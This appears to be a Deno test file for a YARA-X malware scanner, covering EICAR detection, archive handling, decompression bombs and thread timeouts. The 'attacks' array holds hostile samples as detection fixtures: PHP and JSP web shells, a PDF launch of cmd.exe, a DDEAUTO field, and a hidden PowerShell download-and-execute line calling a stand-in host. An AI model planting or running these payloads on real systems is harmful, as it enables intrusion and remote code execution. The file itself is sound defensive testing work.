import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { fileURLToPath, pathToFileURL } from "node:url";
import { type Scanner, ScanUnavailable } from "../../../infra/scanner/scanner.ts";
import { yaraScanner } from "../../../infra/scanner/yara.ts";
import { eicar, noise, stallAfter, streamOf } from "../../support/content.ts";
import { gzip, packedBlanks, tar, withGzipName, zip } from "../../support/samples.ts";
import { blanks, bombs, nested } from "./bombs.ts";

const clean = { verdict: "Clean" };
const infected = { verdict: "Infected", signatureName: "Eicar_Test_File" };
const encode = (text: string) => new TextEncoder().encode(text);
const join = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
const mebibyte = 1024 * 1024;
const builtIn = closing(yaraScanner());
Deno.test.afterAll(() => builtIn.scanner.close());

Deno.test("the built-in rules find the EICAR test file by its definition, and nothing else", async () => {
  await using yara = closing(yaraScanner());
  const scan = (content: Uint8Array, chunk?: number) => yara.scanner.scan(streamOf(content, chunk));
  assert.deepEqual(await scan(eicar()), infected);
  assert.deepEqual(await scan(eicar(), 1), infected);
  assert.deepEqual(await scan(join(eicar(), encode("\r\n"))), infected);
  assert.deepEqual(await scan(join(eicar(), encode(" ".repeat(60)))), infected);
  assert.deepEqual(await scan(join(eicar(), encode(" ".repeat(61)))), clean);
  assert.deepEqual(await scan(join(eicar(), encode(" x"))), clean);
  assert.deepEqual(await scan(join(encode(" "), eicar())), clean);
  assert.deepEqual(await scan(eicar().subarray(0, 67)), clean);
  assert.deepEqual(await scan(new Uint8Array(0)), clean);
  assert.deepEqual(await scan(noise(3 * mebibyte)), clean);
});

Deno.test("the rule file does not contain the test file, so other scanners do not report it", async () => {
  const rule = await Deno.readFile(new URL("../../../infra/scanner/rules/eicar.yar", import.meta.url));
  assert.ok(!new TextDecoder().decode(rule).includes(new TextDecoder().decode(eicar().subarray(0, 20))));
});

/** For each built-in rule: an attack, and similar harmless content. */
const attacks: [signatureName: string, attack: string, harmless: string][] = [
  ["Php_Web_Shell", "<?php @eval(base64_decode($_POST['x']));", "<?php echo htmlspecialchars($_POST['x']);"],
  [
    "Jsp_Web_Shell",
    '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    '<% out.print(request.getParameter("c")); %>',
  ],
  [
    "Pdf_Starts_Program",
    "%PDF-1.4\n1 0 obj<</Type/Action/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "%PDF-1.4\n1 0 obj<</Type/Action/S/Launch/F(notes.pdf)>>",
  ],
  [
    "Rtf_Equation_Editor",
    "{\\rtf1{\\object{\\*\\objdata 01050000 4571756174696f6e2e33}}}",
    "{\\rtf1 Equation.3}",
  ],
  [
    "Shortcut_Starts_Script",
    `L\0\0\0\x01\x14\x02\0${[..."powershell.exe -enc"].map((c) => c + "\0").join("")}`,
    `L\0\0\0\x01\x14\x02\0${[..."notes.txt"].map((c) => c + "\0").join("")}`,
  ],
  [
    "Encoded_Powershell_Download",
    "powershell.exe -NoProfile -w hidden iex ((New-Object Net.WebClient).DownloadString('http://a.test/b'))",
    "powershell.exe -NoProfile Get-ChildItem",
  ],
];
for (const [signatureName, attack, harmless] of attacks) {
  Deno.test(`the built-in rule ${signatureName} finds its attack, also in a zip, but not similar content`, async () => {
    const scan = (content: Uint8Array) => builtIn.scanner.scan(streamOf(content));
    assert.deepEqual(await scan(encode(attack)), { verdict: "Infected", signatureName });
    assert.deepEqual(await scan(zip([["a", attack]])), { verdict: "Infected", signatureName });
    assert.deepEqual(await scan(encode(harmless)), clean);
  });
}

Deno.test("the built-in rule for DDE matches in the parts of an Office document", async () => {
  const field = (text: string) =>
    zip([[
      "word/document.xml",
      `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:instrText>${text}</w:instrText></w:document>`,
    ]]);
  const scan = (text: string) => builtIn.scanner.scan(streamOf(field(text)));
  const signatureName = "Office_Dde_Starts_Program";
  assert.deepEqual(await scan("DDEAUTO c:\\windows\\system32\\cmd.exe"), {
    verdict: "Infected",
    signatureName,
  });
  assert.deepEqual(await scan("PAGE"), clean);
});

const text = "nothing here ".repeat(100);
const carriers: [name: string, content: () => Uint8Array][] = [
  ["a deflated zip", () => zip([["note.txt", text], ["eicar.com", eicar()]])],
  ["a stored zip", () => zip([["note.txt", text], ["eicar.com", eicar()]], { store: true })],
  ["a zip written to a pipe", () => zip([["note.txt", text], ["eicar.com", eicar()]], { streamed: true })],
  [
    "a stored zip written to a pipe",
    () => zip([["PK\x07\x08", "PK\x07\x08"], ["eicar.com", eicar()]], { store: true, streamed: true }),
  ],
  ["a zip with a zip64 directory", () => zip([["eicar.com", eicar()]], { zip64: true })],
  ["a gzip", () => gzip(eicar())],
  ["the second stream of a gzip", () => join(gzip(encode("")), gzip(eicar()))],
  ["a gzip with a name", () => withGzipName(gzip(eicar()))],
  ["a tar", () => tar([["note.txt", encode(text)], ["eicar.com", eicar()]])],
  ["a gzipped tar", () => gzip(tar([["note.txt", encode(text)], ["eicar.com", eicar()]]))],
  ["a gzipped tar in a zip", () => zip([["a.tgz", gzip(tar([["eicar.com", eicar()]]))]])],
  ["three zips in each other", () => nested(3)],
];
for (const [name, content] of carriers) {
  for (const chunk of [1, 65_536]) {
    Deno.test(`EICAR is found in ${name}, read by ${chunk} byte(s)`, async () => {
      assert.deepEqual(await builtIn.scanner.scan(streamOf(content(), chunk)), infected);
    });
  }
}

for (const { name, reason } of bombs) {
  Deno.test(`an archive with ${name} is rejected with a reason and little memory`, async () => {
    const found = (await measured()).bombs[name];
    assert.equal(found?.verdict, "Rejected");
    assert.match(found?.reason ?? "", reason);
    assert.ok(found && found.grownMib < 256, `rss grew by ${found?.grownMib} MiB`);
  });
}

Deno.test("an archive exactly at the limits is scanned and clean", async () => {
  const scan = (content: Uint8Array) => builtIn.scanner.scan(streamOf(content));
  assert.deepEqual(await scan(zip(Array.from({ length: 1_000 }, (_, n) => [`${n}.txt`, ""]))), clean);
  assert.deepEqual(await scan(zip([["blank page", blanks(100_000)]])), clean);
  assert.deepEqual(await scan(zip([["folder/", ""], ["folder/a", text]], { streamed: true })), clean);
  assert.deepEqual(await scan(tar([["a", blanks(5_000_000)]])), clean);
  assert.deepEqual(
    await builtIn.scanner.scan(streamOf(zip([["a", packedBlanks(11)]])), { isOwn: true }),
    clean,
  );
});

Deno.test("truncated and changed archives get a verdict", async () => {
  const whole = zip([["a", text], ["b", zip([["c", noise(500)]])], ["d", gzip(tar([["e", noise(600)]]))]]);
  for (let n = 0; n < 20; n++) {
    const cut = whole.slice(0, Math.floor(whole.length * n / 20));
    assert.equal((await builtIn.scanner.scan(streamOf(cut))).verdict, "Clean");
    const changed = whole.slice();
    changed[Math.floor(whole.length * n / 20)]! ^= 0xff;
    assert.notEqual((await builtIn.scanner.scan(streamOf(changed))).verdict, "Infected");
  }
});

Deno.test("the event loop is not blocked while a large archive is scanned", async () => {
  const content = streamOf(zip([["a", packedBlanks(5)], ["b", noise(1_500_000)]]));
  let longest = 0;
  let last = performance.now();
  const ticking = setInterval(() => {
    longest = Math.max(longest, performance.now() - last);
    last = performance.now();
  }, 5);
  const found = await builtIn.scanner.scan(content).finally(() => clearInterval(ticking));
  assert.equal(found.verdict, "Clean");
  assert.ok(longest < 500, `nothing else ran for ${Math.round(longest)} ms`);
});

Deno.test("status names engine, rules and the date of the newest rule file", async () => {
  const folder = await rulesFolder({ "a.yar": "rule a { condition: false }" });
  await Deno.utime(new URL("a.yar", folder), 1_700_000_000, 1_700_000_000);
  await using yara = closing(yaraScanner({ rulesFolder: folder }));
  const status = await yara.scanner.status();
  assert.match(status.engine, /^YARA-X \d+\.\d+\.\d+$/);
  assert.match(status.databaseVersion ?? "", /^[0-9a-f]{12}$/);
  assert.deepEqual(status.databaseDate, new Date(1_700_000_000_000));
});

Deno.test("rules of several files work together, private ones give no verdict", async () => {
  await using yara = closing(yaraScanner({
    rulesFolder: await rulesFolder({
      "a.yar": 'private rule same { strings: $a = "alpha" condition: $a }',
      "b.yara": 'rule same { strings: $b = "beta" condition: $b }',
      "readme.txt": "not a rule",
    }),
  }));
  assert.deepEqual(await yara.scanner.scan(streamOf(encode("alpha"))), clean);
  assert.deepEqual(await yara.scanner.scan(streamOf(encode("a beta"))), {
    verdict: "Infected",
    signatureName: "same",
  });
});

Deno.test("in content longer than the window a match is found anywhere, also across two windows", async () => {
  const rule = 'rule needle { strings: $n = "needle in the haystack" condition: $n }';
  const windowSizes = { window: 64 * 1024, overlap: 4096, head: 1024 };
  await using yara = closing(yaraScanner({ rulesFolder: await rulesFolder({ "n.yar": rule }), windowSizes }));
  const content = noise(300_000);
  assert.deepEqual(await yara.scanner.scan(streamOf(content)), clean);
  for (const at of [0, 65_536 - 10, 65_536 + 60_416 - 10, 200_000, 300_000 - 22]) {
    const withNeedle = content.slice();
    withNeedle.set(encode("needle in the haystack"), at);
    assert.equal((await yara.scanner.scan(streamOf(withNeedle))).verdict, "Infected", `at ${at}`);
  }
});

Deno.test("in content longer than the window, rules on offset 0 and on small files do not match elsewhere", async () => {
  const rules =
    'rule at_start { strings: $m = "MZ" condition: $m at 0 } rule small { condition: filesize < 60KB }';
  const windowSizes = { window: 64 * 1024, overlap: 4096, head: 1024 };
  await using yara = closing(
    yaraScanner({ rulesFolder: await rulesFolder({ "r.yar": rules }), windowSizes }),
  );
  const content = new Uint8Array(150_000).map((_, i) => "MZ".charCodeAt(i % 2)).fill(0x20, 0, 1);
  assert.deepEqual(await yara.scanner.scan(streamOf(content)), clean);
  content[0] = "M".charCodeAt(0);
  assert.equal((await yara.scanner.scan(streamOf(content))).verdict, "Infected");
});

Deno.test("half a gigabyte is scanned in much less memory", async () => {
  const { verdict, grownMib } = (await measured()).halfGigabyte;
  assert.equal(verdict, "Clean");
  assert.ok(grownMib < 256, `rss grew by ${grownMib} MiB`);
});

Deno.test("a thread that hangs is replaced: no verdict now, a verdict next time", async () => {
  const slow =
    "rule slow { condition: for any i in (0..filesize) : (for any j in (0..filesize) : (uint8(i) + uint8(j) == 1000)) }";
  const options = { rulesFolder: await rulesFolder({ "slow.yar": slow }), stepTimeoutMs: 1500, threads: 1 };
  await using yara = closing(yaraScanner(options));
  assert.deepEqual(await yara.scanner.scan(streamOf(noise(10))), clean);
  await unavailable(
    yara.scanner.scan(streamOf(noise(256))),
    /the step "finish" took longer than 1500 ms/,
  );
  assert.deepEqual(await yara.scanner.scan(streamOf(noise(10))), clean);
});

Deno.test("more scans than threads wait in a queue and get their own verdicts", async () => {
  await using yara = closing(yaraScanner({ threads: 2 }));
  const verdicts = await Promise.all(
    Array.from(
      { length: 10 },
      (_, i) => yara.scanner.scan(streamOf(i % 2 ? eicar() : noise(100_000, i + 1))),
    ),
  );
  assert.deepEqual(verdicts.map((v) => v.verdict === "Infected"), verdicts.map((_, i) => i % 2 === 1));
});

Deno.test("a stalled, a failing and an abandoned stream free their thread", async () => {
  await using yara = closing(yaraScanner({ threads: 1, idleTimeoutMs: 200 }));
  const stalled = stallAfter(eicar());
  await unavailable(yara.scanner.scan(stalled.stream), /next chunk of content took longer than 200 ms/);
  await stalled.cancelled;
  const broken = new Error("object gone");
  await assert.rejects(yara.scanner.scan(new ReadableStream({ pull: (c) => c.error(broken) })), broken);
  const stop = new AbortController();
  const holding = yara.scanner.scan(stallAfter(eicar()).stream, { signal: stop.signal });
  const queued = yara.scanner.scan(streamOf(eicar()), { signal: stop.signal });
  stop.abort(new Error("shutting down"));
  await assert.rejects(holding, /shutting down/);
  await assert.rejects(queued, /shutting down/);
  assert.deepEqual(await yara.scanner.scan(streamOf(noise(10))), clean);
});

Deno.test("no rules, no folder or a rule that does not compile: no verdict and no status", async () => {
  const missing = new URL("missing/", await rulesFolder({}));
  const cases: [URL, RegExp][] = [
    [await rulesFolder({}), /holds no \*\.yar file/],
    [missing, /cannot read/],
    [await rulesFolder({ "bad.yar": "rule x { condition: nonsense }" }), /bad\.yar does not compile/],
  ];
  for (const [rulesFolder, message] of cases) {
    await using yara = closing(yaraScanner({ rulesFolder }));
    await unavailable(yara.scanner.scan(streamOf(eicar())), message);
    await unavailable(yara.scanner.status(), message);
  }
});

Deno.test("closing a scanner ends running scans, and it accepts no more", async () => {
  const scanner = yaraScanner();
  await scanner.status();
  const scan = scanner.scan(stallAfter(eicar()).stream);
  await scanner.close();
  await unavailable(scan, /closed/);
  await unavailable(scanner.scan(streamOf(eicar())), /closed/);
  await unavailable(scanner.status(), /closed/);
});

interface Measured {
  verdict: string;
  reason?: string;
  grownMib: number;
}
let measuring: Promise<{ halfGigabyte: Measured; bombs: Record<string, Measured> }> | undefined;

/** Verdicts and memory of large content, measured once in a process of its own. */
function measured() {
  return measuring ??= (async () => {
    const { stdout } = await new Deno.Command(Deno.execPath(), {
      args: ["run", "-A", "--no-check", fileURLToPath(import.meta.resolve("./memory_child.ts"))],
      stderr: "inherit",
    }).output();
    return JSON.parse(new TextDecoder().decode(stdout));
  })();
}

const folders: URL[] = [];
globalThis.addEventListener(
  "unload",
  () => folders.forEach((folder) => Deno.removeSync(folder, { recursive: true })),
);

async function rulesFolder(files: Record<string, string>): Promise<URL> {
  const folder = pathToFileURL(`${await Deno.makeTempDir({ prefix: "rules-" })}/`);
  folders.push(folder);
  for (const [name, text] of Object.entries(files)) await Deno.writeTextFile(new URL(name, folder), text);
  return folder;
}

function closing(scanner: Scanner): { scanner: Scanner } & AsyncDisposable {
  return { scanner, [Symbol.asyncDispose]: () => scanner.close() };
}

async function unavailable(work: Promise<unknown>, message: RegExp): Promise<void> {
  await assert.rejects(work, (error) => {
    assert.ok(error instanceof ScanUnavailable, `expected ScanUnavailable, got ${error}`);
    assert.match(error.message, message);
    return true;
  });
}
